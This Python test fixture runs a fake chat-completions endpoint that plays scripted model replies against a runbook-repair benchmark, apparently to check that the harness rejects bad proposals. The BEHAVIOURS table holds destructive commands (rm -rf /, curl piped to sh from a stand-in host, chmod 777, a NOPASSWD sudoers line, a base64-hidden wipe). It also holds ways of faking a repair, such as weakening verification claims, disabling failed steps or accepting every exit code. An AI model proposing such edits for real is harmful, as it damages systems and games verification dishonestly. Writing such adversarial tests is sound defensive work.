"""A model endpoint on loopback that plays a part: one that answers well, or one of many that don't.

It speaks OpenAI's chat completions. A behaviour gets a `Question` (with the case that is being decided) and gives a
`Reply`; everything between that and a pull request is the learner's own.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import yaml

from benchmarks.repair.cases import Case

SLOW_SECONDS = 1.0
"""Longer than the bench's clients wait."""


@dataclass(frozen=True)
class Question:
    """What was asked, and of which case."""

    case: Case
    edit: bool
    """Whether an edit is asked for; else a failure type."""
    citations: tuple[str, ...]

    @property
    def failing(self) -> tuple[str, ...]:
        """Citations of failed steps and checks, else of anything."""
        parts = [one for one in self.citations if "#" in one]
        return tuple(parts[-1:]) or self.citations[:1]

    @property
    def step(self) -> str:
        """The id of the runbook's first step."""
        return str(self._runbook["steps"][0]["id"])

    @property
    def failed_step(self) -> dict[str, Any] | None:
        """The runbook's step that failed; None when a claim did, or nothing."""
        for result in self._cited:
            for step in result["executed_steps"]:
                if step["step_number"] == result["error_step"]:
                    return next(s for s in self._steps if s["id"] == step["step_id"])
        return None

    @property
    def worked(self) -> list[dict[str, Any]]:
        """The runbook's steps that ran and worked before something failed."""
        done = {s["step_id"] for r in self._cited for s in r["executed_steps"] if s["success"] and not s["skipped"]}
        return [step for step in self._steps if step["id"] in done]

    @property
    def claim(self) -> dict[str, Any]:
        """The claim that failed; the runbook's first one when none did."""
        failed = {check["id"] for result in self._cited for check in result["checks"] if check["passed"] is False}
        claims = self._runbook["verification"]
        return dict(next((claim for claim in claims if claim["id"] in failed), claims[0]))

    @property
    def _runbook(self) -> dict[str, Any]:
        return dict(yaml.safe_load(self.case.runbook))

    @property
    def _steps(self) -> list[dict[str, Any]]:
        return [step for phase in ("steps", "rollback", "finally") for step in self._runbook.get(phase, ())]

    @property
    def _cited(self) -> list[dict[str, Any]]:
        named = {citation.partition("#")[0] for citation in self.citations}
        return [result for result in self.case.results if result["execution_id"] in named]


@dataclass(frozen=True)
class Reply:
    """What goes back over the wire."""

    body: bytes = b""
    status: int = 200
    headers: tuple[tuple[str, str], ...] = ()
    slow_seconds: float = 0.0
    drip: bool = False
    """Byte by byte, never ending in time."""
    hang_up: bool = False


Behaviour = Callable[[Question], Reply]


def said(content: str | None, **message: Any) -> Reply:
    """A chat completion with `content`."""
    whole = {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 1,
        "model": "scripted",
        "choices": [
            {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": content, **message}}
        ],
        "usage": {"prompt_tokens": 2400, "completion_tokens": 180, "total_tokens": 2580},
    }
    return Reply(json.dumps(whole).encode())


def classified(kind: str, cited: tuple[str, ...], confidence: int = 95) -> Reply:
    return said(json.dumps({"failure_type": kind, "confidence": confidence, "reasoning": "as the evidence shows",
                            "evidence": list(cited)}))  # fmt: skip


def edited(*operations: dict[str, Any], reason: str = "") -> Reply:
    """An edit of `operations`; without any, no proposal for `reason`."""
    return said(json.dumps({
        "decision": "propose" if operations else "no_proposal",
        "reason": reason,
        "root_cause": "what the failed step says",
        "summary": "Repair what the failed step says",
        "expected_effect": "the step works",
        "risk": "low",
        "operations": list(operations),
    }))  # fmt: skip


def operation(op: str, because: tuple[str, ...], **fields: Any) -> dict[str, Any]:
    """One record of the wire form; `yaml` may be given as a value."""
    base = {"op": op, "because": list(because), "target": "", "before": "", "after": "", "name": "", "yaml": ""}
    if "yaml" in fields and not (isinstance(fields["yaml"], str) and op in ("set_when", "set_precondition")):
        fields["yaml"] = yaml.safe_dump(fields["yaml"], sort_keys=False, width=1000).removesuffix("...\n")
    return base | fields


def well(question: Question) -> Reply:
    """Knows every answer."""
    cause = question.case.causes[0]
    for one in question.case.causes:
        if any(citation.partition("#")[0] in one.executions for citation in question.citations):
            cause = one
            break
    if not question.edit:
        return classified(cause.types[0], question.failing)
    if not cause.propose:
        return edited(reason="a better runbook is not the answer")
    [*operations] = (
        operation(op, question.failing, **fields) for one in question.case.fix for op, fields in one.items()
    )
    return edited(*operations)


def _eager(edit: Callable[[Question], Reply]) -> Behaviour:
    """Calls whatever it is asked for improvable, and then answers with `edit`."""

    def behaviour(question: Question) -> Reply:
        return edit(question) if question.edit else classified("runbook_insufficient", question.failing, 100)

    return behaviour


def _always(reply: Reply) -> Behaviour:
    return lambda _question: reply


def _script(script: str) -> Behaviour:
    step = {"id": "repair", "action": "run_script", "params": {"shell": "sh", "script": script}, "why": "repairs it"}
    return _eager(lambda q: edited(operation("insert_step", q.failing, before=q.step, yaml=step)))


def _removes(path: str) -> Behaviour:
    step = {"id": "repair", "action": "remove_file", "params": {"path": path}, "become": True, "why": "repairs it"}
    return _eager(lambda q: edited(operation("insert_step", q.failing, before=q.step, yaml=step)))


_NOTHING = edited(reason="there is no such step to spoil")


def _claims(check: str, **params: Any) -> Behaviour:
    """Asks for something easier instead of the claim that failed."""

    def edit(question: Question) -> Reply:
        claim = {**question.claim, "check": check, "params": params}
        return edited(operation("set_verification", question.failing, target=claim["id"], yaml=claim))

    return _eager(edit)


def _lax(question: Question) -> Reply:
    """The same claim, with limits that anything meets."""
    claim = question.claim
    eased = {"percent": 99.5, "seconds": 86_400, "min_valid_days": 0, "expect_status": 500, "contains": ""}
    params = {name: eased.get(name, value) for name, value in claim.get("params", {}).items()}
    if claim["check"] == "http_ok":
        params["expect_status"] = 500
    if params == claim.get("params", {}):
        return _NOTHING
    return edited(operation("set_verification", question.failing, target=claim["id"], yaml={**claim, "params": params}))


def _of_failed(op: str, **fields: Any) -> Behaviour:
    """An operation on the step that failed."""

    def edit(question: Question) -> Reply:
        step = question.failed_step
        return edited(operation(op, question.failing, target=step["id"], **fields)) if step else _NOTHING

    return _eager(edit)


def _of_worked(op: str, at: int, **fields: Any) -> Behaviour:
    """An operation on a step that worked: the first (0) or the last (-1)."""

    def edit(question: Question) -> Reply:
        worked = question.worked
        return edited(operation(op, question.failing, target=worked[at]["id"], **fields)) if worked else _NOTHING

    return _eager(edit)


def _swaps(action: str, *, keeps_id: bool, **params: Any) -> Behaviour:
    """Another step, which does nothing to the host, in the place of the one that failed."""

    def edit(question: Question) -> Reply:
        step = question.failed_step
        if step is None:
            return _NOTHING
        new = {"id": step["id"] if keeps_id else "instead", "action": action, "params": params, "why": "repairs it"}
        return edited(operation("replace_step", question.failing, target=step["id"], yaml=new))

    return _eager(edit)


def _deep(question: Question) -> Reply:
    return said("[" * 200_000)


def _many(question: Question) -> Reply:
    step = {"action": "wait", "params": {"seconds": 1}, "why": "waits"}
    return edited(
        *(
            operation("insert_step", question.failing, before=question.step, yaml={"id": f"w{n}", **step})
            for n in range(40)
        )
    )


def _useless(question: Question) -> Reply:
    step = {
        "id": "make",
        "action": "create_directory",
        "params": {"path": "/var/tmp/learner-unrelated"},
        "why": "makes it",
    }
    return edited(operation("insert_step", question.failing, before=question.step, yaml=step))


def _same(question: Question) -> Reply:
    step = yaml.safe_load(question.case.runbook)["steps"][0]
    return edited(operation("replace_step", question.failing, target=step["id"], yaml=step))


BEHAVIOURS: dict[str, Behaviour] = {
    "refusal": _always(said(None, refusal="I can't help with that.")),
    "broken JSON": _always(said('{"decision": "propose", "operations": [{"op": "insert_st')),
    "prose": _always(said("Sure! I would restart the service and see whether that helps.")),
    "nested 200,000 deep": _deep,
    "another schema": _always(said('{"answer": 42}')),
    "wrong ids": _eager(lambda q: edited(operation("set_timeout", q.failing, target="no_such_step", yaml=600))),
    "invented citations": _eager(lambda q: edited(operation("set_timeout", ("exec-20200101-NOPE#9",), target=q.step, yaml=600))),
    "invented actions": _eager(lambda q: edited(operation("insert_step", q.failing, before=q.step,
                                                          yaml={"id": "fix", "action": "fix_it", "params": {}}))),
    "no-op edit": _eager(_same),
    "useless edit": _eager(_useless),
    "40 operations": _eager(_many),
    "YAML bomb": _eager(lambda q: edited({**operation("insert_step", q.failing, before=q.step),
                                          "yaml": "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nid: *c\n"})),
    "rm -rf /": _script("rm -rf / --no-preserve-root"),
    "curl | sh": _script("curl -fsS http://203.0.113.9/fix.sh | sh"),
    "chmod 777": _script("chmod -R 777 /etc /var"),
    "sudoers": _script("echo 'learner ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/learner"),
    "hidden in base64": _script("echo cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290 | base64 -d | sh"),
    "removes /etc/passwd": _removes("/etc/passwd"),
    "removes the step that failed": _of_failed("remove_step"),
    "removes the step that worked": _of_worked("remove_step", -1),
    "removes the first that worked": _of_worked("remove_step", 0),
    "when: false": _of_failed("set_when", yaml="false"),
    "when: nowhere": _of_failed("set_when", yaml="host.os_id == 'nowhere'"),
    "when: false for what worked": _of_worked("set_when", -1, yaml="1 == 2"),
    "on_failure: continue": _of_failed("set_on_failure", yaml="continue"),
    "on_failure: continue, anywhere": _eager(lambda q: edited(operation("set_on_failure", q.failing, target=q.step,
                                                                        yaml="continue"))),
    "every exit code will do": _of_failed("set_parameter", name="success_exit_codes", yaml=list(range(256))),
    "claims what is always true": _claims("command_succeeds", argv=["true"]),
    "claims that / exists": _claims("file_exists", path="/"),
    "claims less": _eager(_lax),
    "waits instead": _swaps("wait", keeps_id=True, seconds=1),
    "looks instead": _swaps("check_disk_usage", keeps_id=False),
    "true instead": _swaps("run_command", keeps_id=True, argv=["true"]),
    "echo instead": _swaps("run_script", keeps_id=False, shell="sh", script="echo done; exit 0"),
    "an hour for everything": _of_failed("set_timeout", yaml=3600),
    "401": _always(Reply(b'{"error": {"message": "bad key"}}', 401)),
    "429, soon": _always(Reply(b'{"error": {"message": "slow down"}}', 429, (("Retry-After", "1"),))),
    "429, in an hour": _always(Reply(b'{"error": {"message": "quota"}}', 429, (("Retry-After", "3600"),))),
    "500": _always(Reply(b"Internal Server Error", 500)),
    "HTML": _always(Reply(b"<html><body>It works!</body></html>")),
    "empty": _always(Reply(b"")),
    "no choices": _always(Reply(b'{"choices": []}')),
    "redirect": _always(Reply(b"", 302, (("Location", "http://127.0.0.1:9/"),))),
    "hangs up": _always(Reply(hang_up=True)),
    "silent": _always(Reply(slow_seconds=SLOW_SECONDS)),
    "drips": _always(Reply(b" " * 4000, drip=True)),
    "8 MiB": _always(Reply(b'{"choices": [{"message": {"content": "' + b"x" * (8 << 20) + b'"}}]}')),
}  # fmt: skip


@dataclass
class Endpoint:
    """A running endpoint. `case` is what is being decided; `calls` is how often it was asked."""

    behaviour: Behaviour
    base_url: str = ""
    calls: int = 0
    case: Case | None = None

    def decides(self, case: Case) -> None:
        self.case = case


@contextmanager
def endpoint(behaviour: Behaviour) -> Iterator[Endpoint]:
    """An endpoint on loopback, for the length of the block."""
    state = Endpoint(behaviour)

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            state.calls += 1
            if state.case is None:
                raise ValueError("asked before there was a case")
            reply = state.behaviour(_question(state.case, json.loads(body)))
            try:
                self._send(reply)
            except OSError:
                self.close_connection = True  # the other side had enough

        def _send(self, reply: Reply) -> None:
            if reply.hang_up:
                self.close_connection = True
                return
            time.sleep(reply.slow_seconds)
            self.send_response(reply.status)
            for name, value in (("Content-Type", "application/json"), *reply.headers):
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(reply.body)))
            self.end_headers()
            if not reply.drip:
                self.wfile.write(reply.body)
                return
            ends = time.monotonic() + 4 * SLOW_SECONDS
            for at in range(len(reply.body)):
                if time.monotonic() > ends:
                    break
                self.wfile.write(reply.body[at : at + 1])
                self.wfile.flush()
                time.sleep(0.02)

        def log_message(self, *_words: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    state.base_url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _question(case: Case, body: dict[str, Any]) -> Question:
    user = "\n".join(str(message["content"]) for message in body["messages"])
    asked = json.dumps([body.get("response_format"), body.get("tools"), body["messages"][0]["content"]])
    found = [one for line in re.findall(r"A failed run\. Citations: (.*)", user) for one in line.split(", ")]
    return Question(case, "root_cause" in asked, tuple(dict.fromkeys(found)))
